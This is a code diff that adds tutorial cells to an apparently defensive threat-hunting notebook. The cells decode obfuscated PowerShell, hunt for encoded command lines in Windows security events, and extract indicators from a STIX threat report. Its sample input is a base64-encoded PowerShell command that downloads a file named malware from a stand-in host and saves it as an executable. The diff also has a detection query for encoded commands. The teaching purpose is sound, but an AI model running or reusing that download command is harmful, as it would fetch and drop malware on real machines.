@@ -1,4 +1,99 @@
 // Tour cells: decoding base64-obfuscated command lines and extracting IoCs from a threat report.
+// Every text from the data goes into the page through textContent or the Rust-escaped HTML of DataFrame.toElement.
+
+const TOUR_COMMAND =
+  "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl";
+
+function el(tag, className, text) {
+  const e = document.createElement(tag);
+  if (className) e.className = className;
+  if (text !== undefined) e.textContent = text;
+  return e;
+}
+
+function wrapped(pre) {
+  pre.style.whiteSpace = "pre-wrap";
+  pre.style.wordBreak = "break-all";
+  return pre;
+}
+
+function labelled(label, node) {
+  const d = el("div", "labelled");
+  d.append(el("h3", "", label), node);
+  return d;
+}
+
+function list(items, className) {
+  const ul = el("ul", className);
+  for (const i of items) ul.append(el("li", "", i));
+  return ul;
+}
+
+/** The text of an XML document, one text node a line (what a report's reader sees; attributes are left out). */
+function xmlText(xml) {
+  const doc = new DOMParser().parseFromString(xml, "application/xml");
+  const bad = doc.querySelector("parsererror");
+  if (bad) throw new Error(`the report is not well-formed XML: ${bad.textContent}`);
+  const walker = doc.createTreeWalker(doc.documentElement, NodeFilter.SHOW_TEXT);
+  const parts = [];
+  for (let n = walker.nextNode(); n; n = walker.nextNode()) parts.push(n.nodeValue);
+  return parts.join("\n");
+}
+
 export function analysisCells({ cell, state, huntbook }) {
-  return [];
+  return [
+    cell("decode", "Decode an obfuscated command line", `
+const { text, table } = huntbook.unpack(
+  "powershell.exe -encodedCommand SW52b2tlLVdlYlJlcXVlc3QgaHR0cHM6Ly9jb250b3NvLmNvbS9tYWx3YXJlIC1PdXRGaWxlIEM6XG1hbHdhcmUuZXhl");
+text                                   // the command with the decoded text in a <decoded> tag
+table.select(["reference", "decoded_string", "encoding_type", "md5", "input_bytes"])`, async () => {
+      const { text, table } = huntbook.unpack(TOUR_COMMAND);
+      const out = el("div");
+      out.append(
+        labelled("Decoded", wrapped(el("pre", "decoded", table.row(0).decoded_string))),
+        labelled("Rewritten command line", wrapped(el("pre", "unpacked-text", text))),
+        labelled("Fragments", table.select(["reference", "decoded_string", "encoding_type", "md5", "input_bytes"]).toElement()),
+      );
+      return out;
+    }),
+    cell("unpack-table", "Decode every encoded PowerShell command in SecurityEvent", `
+const procs = await qp.execQuery(\`SecurityEvent
+  | where EventID == 4688 and (CommandLine contains "-enc" or CommandLine contains "FromBase64String")
+  | project TimeGenerated, Computer, Account, CommandLine\`);
+const decoded = huntbook.unpackTable(procs, "CommandLine");     // one row per decoded fragment
+huntbook.extractIocsTable(decoded, ["decoded_string"], { ioc_types: ["url", "dns", "ipv4"] })`, async () => {
+      const procs = await state.qp.execQuery(`SecurityEvent
+  | where EventID == 4688 and (CommandLine contains "-enc" or CommandLine contains "FromBase64String")
+  | project TimeGenerated, Computer, Account, CommandLine`);
+      const decoded = huntbook.unpackTable(procs, "CommandLine");
+      state.decoded = decoded;
+      const iocs = huntbook.extractIocsTable(decoded, ["decoded_string"], { ioc_types: ["url", "dns", "ipv4"] });
+      const out = el("div");
+      out.append(
+        el("p", "summary", `${procs.numRows} command lines with base64, ${decoded.numRows} decoded fragments`),
+        labelled("Decoded fragments", decoded.select(["src_index", "encoding_type", "decoded_string"]).toElement({ maxRows: 30 })),
+        labelled("IoCs in the decoded commands", iocs.select(["IoCType", "Observable", "SourceIndex"]).toElement({ maxRows: 30 })),
+      );
+      return out;
+    }),
+    cell("iocs", "Extract the IoCs of a threat report (STIX XML, defanged and plain)", `
+const xml = await (await fetch("/site/data/threat-report.xml")).text();
+const text = xmlText(xml);                      // the report's text nodes, one a line
+huntbook.extractIocs(text, { ioc_types: ["url"] }).url   // refanged, each once, in order of appearance
+huntbook.extractIocsTable(text, { include_paths: false })`, async () => {
+      const res = await fetch("/site/data/threat-report.xml");
+      if (!res.ok) throw new Error(`could not load the report: HTTP ${res.status}`);
+      const text = xmlText(await res.text());
+      const urls = huntbook.extractIocs(text, { ioc_types: ["url"] }).url ?? [];
+      const table = huntbook.extractIocsTable(text, { include_paths: false });
+      const counts = table.valueCounts("IoCType").toRows().map((r) => `${r.IoCType}: ${r.count}`).join(", ");
+      const out = el("div");
+      out.append(
+        labelled(`URLs (${urls.length})`, list(urls, "urls")),
+        el("p", "summary", `${table.numRows} indicators: ${counts}`),
+        labelled("All indicators", table.select(["IoCType", "Observable", "Refanged"]).toElement({ maxRows: 50 })),
+      );
+      return out;
+    }),
+  ];
 }
